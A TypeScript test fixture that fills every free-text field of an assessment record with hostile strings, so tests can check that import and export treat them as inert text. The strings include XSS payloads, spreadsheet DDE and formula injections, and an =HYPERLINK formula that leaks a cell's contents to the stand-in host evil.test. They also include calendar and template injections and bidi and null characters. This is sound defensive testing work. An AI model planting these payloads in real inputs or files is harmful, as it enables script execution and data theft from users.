/**
 * Hostile texts for the import corpus and the export checks: markup, script URLs, spreadsheet formulas,
 * calendar injections, control and bidi characters. They are data: an import stores them as typed and
 * every export shows them as text.
 */
import { isDeepStrictEqual } from 'node:util';
import * as v from 'valibot';
import type { Assessment } from '@/domain/assessment';
import { assessmentSchema } from '@/domain/assessment-schema';

/** Payloads that start and end with a visible character (a trimmed field keeps them as they are). */
export const TRIM_SAFE_PAYLOADS = [
  '<script>alert(1)</script>',
  'javascript:alert(document.cookie)',
  '<img src=x onerror=alert(1)>',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  '+SUM(1+1)*cmd|\' /C notepad\'!A1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '<svg onload=alert(1)><use href="http://evil.test/x.svg#a"/></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="x.swf">',
  '<a href="javascript:alert(1)" onclick="alert(2)">x</a>',
  '[click](javascript:alert(1)) ![img](http://evil.test/x.png)',
  '"><script>alert(1)</script><!--',
  ']]></w:t></w:r><w:r><w:t>injected',
  'x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM',
  '{{constructor.constructor("alert(1)")()}}',
  '__proto__',
  '\u202Egnp.exe',
  'zero\u200Bwidth\u200Djoin',
  'nul\u0000byte',
  'lone \uD800 surrogate',
] as const;

/** Payloads with leading or trailing control characters, for fields that are not trimmed. */
export const EDGE_PAYLOADS = ['\t=1+1', '\r=1+1', ' =1+1', '\n<script>alert(1)</script>'] as const;

export const HOSTILE_PAYLOADS: readonly string[] = [...TRIM_SAFE_PAYLOADS, ...EDGE_PAYLOADS];

/** Keys whose strings are ids or references: they stay as they are so that the assessment holds together. */
const REFERENCE_KEYS = new Set(['id', 'participantId', 'goalId', 'successFactorId', 'ideaId', 'continuesId', 'indicatorIds']);

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Slot = { path: (string | number)[]; original: string };

/** Replaces every string under `node` (but references) with the next payload; returns where it wrote. */
function fill(node: Json, path: (string | number)[], next: () => string, slots: Slot[]): void {
  if (Array.isArray(node)) {
    node.forEach((item, i) => {
      if (typeof item === 'string') {
        slots.push({ path: [...path, i], original: item });
        node[i] = next();
      } else fill(item, [...path, i], next, slots);
    });
    return;
  }
  if (typeof node !== 'object' || node === null) return;
  for (const [key, value] of Object.entries(node)) {
    if (REFERENCE_KEYS.has(key)) continue;
    if (typeof value === 'string') {
      slots.push({ path: [...path, key], original: value });
      node[key] = next();
    } else fill(value, [...path, key], next, slots);
  }
}

function setAt(root: Json, path: readonly (string | number)[], value: string): void {
  let node = root as Record<string | number, Json>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, Json>;
  node[path[path.length - 1] as string | number] = value;
}

const samePath = (a: readonly (string | number)[], b: readonly (string | number)[]) => a.length === b.length && a.every((k, i) => k === b[i]);

/**
 * The assessment with a hostile payload in every free-text field (its name, notes, goals, measures,
 * milestones, owners, contributors, participants, snapshots, resources, vision…). Fields that only take an
 * enum, a date or an id keep their value (the schema would refuse the payload there). Each payload gets
 * a number, so that every field holds a different text. The result passes the import schema unchanged.
 */
export function everyTextHostile(base: Assessment): Assessment {
  const a = structuredClone(base) as unknown as Json;
  const slots: Slot[] = [];
  let n = 0;
  fill(a, [], () => {
    const payload = HOSTILE_PAYLOADS[n % HOSTILE_PAYLOADS.length] ?? '';
    n += 1;
    return `${payload} #${String(n)}`;
  }, slots);
  // Put back whatever the schema refuses (enums, dates, timestamps): those are not free text.
  for (let round = 0; round < 5; round += 1) {
    const result = v.safeParse(assessmentSchema, a, { abortEarly: false });
    if (result.success) break;
    for (const issue of result.issues) {
      const at = (issue.path ?? []).map((p) => p.key as string | number);
      const slot = slots.find((s) => samePath(s.path, at));
      if (!slot) throw new Error(`unexpected schema issue at ${at.join('.')}: ${issue.message}`);
      setAt(a, slot.path, slot.original);
    }
  }
  const record = a as unknown as Assessment;
  // The name is trimmed on import: it gets a payload without surrounding whitespace.
  record.name = '<script>alert("name")</script><img src=x onerror=alert(1)>';
  const checked = v.safeParse(assessmentSchema, record);
  if (!checked.success) throw new Error(`hostile assessment does not validate: ${JSON.stringify(checked.issues[0].path?.map((p) => p.key))}`);
  // Trimming or other transforms would make the stored record differ from the file: there must be none.
  if (!isDeepStrictEqual(checked.output, record)) throw new Error('the schema changes the hostile assessment');
  return record;
}

/** Every string of a value (to check that each payload survives a round trip). */
export function allStrings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(allStrings);
  if (typeof value === 'object' && value !== null) return Object.values(value).flatMap(allStrings);
  return [];
}
